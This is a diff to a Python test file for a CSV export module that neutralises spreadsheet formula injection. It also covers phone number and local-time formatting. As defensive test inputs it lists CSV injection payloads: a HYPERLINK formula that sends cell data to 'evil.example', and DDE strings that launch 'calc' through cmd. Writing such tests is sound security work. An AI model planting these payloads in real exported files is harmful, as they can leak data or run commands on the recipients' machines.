@@ -1,90 +1,124 @@
-"""CSV for people: no cell is a formula, and what is none stays readable."""
+"""CSV for people: no cell is a formula, and what is none stays as it was written."""
 
 import csv
 import io
 from datetime import UTC, date, datetime
 from typing import Any
+from zoneinfo import ZoneInfo
 
 import pytest
 from hypothesis import given
 from hypothesis import strategies as st
 
-from pazpaz.exports.cells import cell, lines, plain
+from pazpaz.exports.cells import cell, lines, local, phone, plain
 
 SIGNS = "=+-@＝＋－＠"
-HOSTILE = [
-    '=HYPERLINK("http://evil.example/?"&A1,"x")',
-    "+1+cmd|' /C calc'!A0",
-    "-2+3+cmd|' /C calc'!A0",
-    "@SUM(1+1)*cmd|' /C calc'!A0",
-    "\t=1+1",
-    "\r=1+1",
-    "\n=1+1",
-    "\tx",
-    "\rx",
-    " =1+1",
-    "\u00a0=1+1",
-    "\u200f=1+1",
-    "\ufeff=1+1",
-    "\x00=1+1",
-    "＝1+1",
-    "＋1",
-    "－1",
-    "＠SUM(1)",
-    "a\n=1+1",
-    "a\r\n\t=1+1",
-    "a;=1+1",
-    "a,=1+1",
-    "a\t=1+1",
-    'a"=1+1',
-    'a", =1+1',
-]
-
-
-@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
-def test_a_formula_is_kept_from_being_one(text: str) -> None:
-    """The sign that would begin it has an apostrophe before it, and nothing else was changed."""
-    safe = plain(text)
-    assert safe != text
-    assert safe.replace("'", "") == text.replace("'", "")
-
-
-@pytest.mark.parametrize("separator", [",", ";", "\t"])
-@pytest.mark.parametrize("text", HOSTILE, ids=ascii)
-def test_no_cell_is_a_formula_whatever_the_separator(text: str, separator: str) -> None:
-    """Also read with another separator than ours, as a spreadsheet of another locale does."""
-    read = csv.reader(io.StringIO(lines([["id", text, "end"]]).decode(), newline=""), delimiter=separator)
-    cells = [item.strip(" \t\r\n\0\u00a0\u200f\ufeff\"'") for row in read for item in row if "'" not in item]
-    assert [item for item in cells if item.startswith(tuple(SIGNS))] == []
-
-
-@given(st.text(alphabet=st.sampled_from(SIGNS + "a1 \t\r\n;,\"'|"), max_size=12))
-def test_no_text_becomes_a_formula(text: str) -> None:
-    """Whatever is written, the cell a spreadsheet reads does not begin with a sign, a tab or a line break."""
-    [[read]] = csv.reader(io.StringIO(lines([[text]]).decode(), newline=""))
-    assert not read.strip().startswith(tuple(SIGNS))
-    assert not read.startswith(("\t", "\r", "\n"))
-
-
-READABLE: dict[str, tuple[Any, str]] = {
-    "a phone number": ("+972 50-555-0101", "'+972 50-555-0101"),
-    "Hebrew": ("כאב גב, 4/10", "כאב גב, 4/10"),
-    "a hyphen inside": ("L4-L5", "L4-L5"),
-    "an address": ("a+b@example.org", "a+b@example.org"),
-    "quotes": ('"x"', '"x"'),
+FORMULAS = {
+    '=HYPERLINK("http://evil.example/?"&A1,"x")': "OWASP, CSV Injection",
+    "=1+1": "LibreOffice 7.4 computes it, in quotes too",
+    "+1+cmd|' /C calc'!A0": "OWASP",
+    "-2+3+cmd|' /C calc'!A0": "OWASP",
+    "@SUM(1+1)*cmd|' /C calc'!A0": "OWASP",
+    "- כאב בלילה": "a list in a note: Excel shows #NAME?",
+    "\t=1+1": "OWASP; LibreOffice 7.4 drops the tab",
+    "\r=1+1": "OWASP",
+    "\n=1+1": "OWASP",
+    "\tx": "ASVS 5.0, 1.2.10",
+    "\rx": "ASVS 5.0, 1.2.10",
+    "\x00=1+1": "ASVS 5.0, 1.2.10",
+    " =1+1": "LibreOffice 7.4 drops the space",
+    "\u00a0=1+1": "a space of Word and phones",
+    "\u200f=1+1": "a mark of direction, as WhatsApp copies along",
+    "\ufeff=1+1": "a mark of UTF-8 at a text's start",
+    "＝1+1": "full width, which Excel in Japanese reads as a sign",
+    "＋1": "likewise",
+    "－1": "likewise",
+    "＠SUM(1)": "likewise",
+}
+TEXTS = {
+    "כאב גב, 4/10": "a note",
+    "ישנה טוב;- בלי כדורים": "a dash after a separator: an apostrophe stood inside of notes",
+    "עלה:\n- שינה\n- תיאבון": "a list in a note, likewise",
+    "a\r\n\t=1+1": "a formula that somebody quotes, likewise",
+    'הוא אמר ",=1+1"': "likewise, in quotation marks",
+    "L4-L5": "a hyphen inside",
+    "a+b@example.org": "an address",
+    "it's": "an apostrophe of the text's own",
+    "'ז": "likewise, at its start",
+    "\nx": "a note that begins with an empty line",
+    '"x"': "quotation marks",
+    "": "nothing",
+}
+VALUES: dict[str, tuple[Any, str]] = {
     "nothing": (None, ""),
     "yes": (True, "true"),
     "a number": (-3, "-3"),
     "a day": (date(1980, 2, 3), "1980-02-03"),
     "a moment": (datetime(2026, 3, 1, 8, tzinfo=UTC), "2026-03-01T08:00:00Z"),
-    "tags": (["גב", "=x"], "גב,' =x"),
+    "tags": (["גב", "=x"], "גב, =x"),
+    "a tag alone": (["=x"], "'=x"),
+}
+PHONES = {
+    "052-555-0148": ("052-555-0148", "Israel, as people write it"),
+    "0525550148": ("'0525550148", "LibreOffice 7.4 and Excel make 525550148 of it"),
+    "972525550148": ("'972525550148", "Excel shows 9.72526E+11"),
+    "052 555 0148": ("'052 555 0148", "a space parts thousands where French is spoken"),
+    "+972525550148": ("'+972525550148", "LibreOffice 7.4 makes 972525550148 of it"),
+    "+972 50-555-0101": ("'+972 50-555-0101", "begins as a formula does"),
+    "\u200e0525550148": (
+        "\u200e0525550148",
+        "an invisible mark, as phones copy it along: no number to a reader",
+    ),
+    "*2700": ("*2700", "a short number in Israel"),
+    "(212) 555-0148": ("(212) 555-0148", "the United States"),
+    "052-555-0148 (אמא)": ("052-555-0148 (אמא)", "with a word"),
+}
+MOMENTS = {
+    "2026-03-01T08:00:00+00:00": ("2026-03-01 10:00:00", "winter"),
+    "2026-07-01T22:30:00+00:00": ("2026-07-02 01:30:00", "summer, another day"),
+    "2026-10-24T22:30:00+00:00": ("2026-10-25 01:30:00", "first time that night, summer time"),
+    "2026-10-24T23:30:00.123456+00:00": (
+        "2026-10-25 01:30:00",
+        "second time; UTC beside it tells them apart",
+    ),
 }
 
 
-@pytest.mark.parametrize(("value", "shown"), READABLE.values(), ids=READABLE)
+@pytest.mark.parametrize("text", FORMULAS, ids=ascii)
+def test_a_formula_is_kept_from_being_one(text: str) -> None:
+    """An apostrophe stands before it, and all behind the apostrophe is as it was."""
+    assert plain(text) == f"'{text}"
+
+
+@pytest.mark.parametrize("text", TEXTS, ids=ascii)
+def test_what_is_no_formula_is_as_it_was_written(text: str) -> None:
+    """Whatever stands inside of it."""
+    assert plain(text) == text
+
+
+@given(st.text(alphabet=st.sampled_from(SIGNS + "a1 \t\r\n;,\"'|"), max_size=12))
+def test_no_text_becomes_a_formula(text: str) -> None:
+    """Whatever is written, the cell a spreadsheet reads does not begin as one, and says all of the text."""
+    [[read]] = csv.reader(io.StringIO(lines([[cell(text)]]).decode(), newline=""))
+    assert not read.strip().startswith(tuple(SIGNS))
+    assert not read.startswith(("\t", "\r"))
+    assert read in (text, f"'{text}")
+
+
+@pytest.mark.parametrize(("value", "shown"), VALUES.values(), ids=VALUES)
 def test_what_people_read(value: Any, shown: str) -> None:
-    """Everything but the beginning of a formula is as it was."""
     assert cell(value) == shown
+
+
+@pytest.mark.parametrize(("typed", "shown"), [(typed, shown) for typed, (shown, _) in PHONES.items()])
+def test_a_phone_number_keeps_its_zeros(typed: str, shown: str) -> None:
+    """It is text to a spreadsheet, and no formula."""
+    assert phone(typed) == shown
+
+
+@pytest.mark.parametrize(("at", "shown"), [(at, shown) for at, (shown, _) in MOMENTS.items()])
+def test_a_moment_in_the_practice_s_time(at: str, shown: str) -> None:
+    assert local(datetime.fromisoformat(at), ZoneInfo("Asia/Jerusalem")) == shown
 
 
 def test_a_cell_is_read_back_whole() -> None:
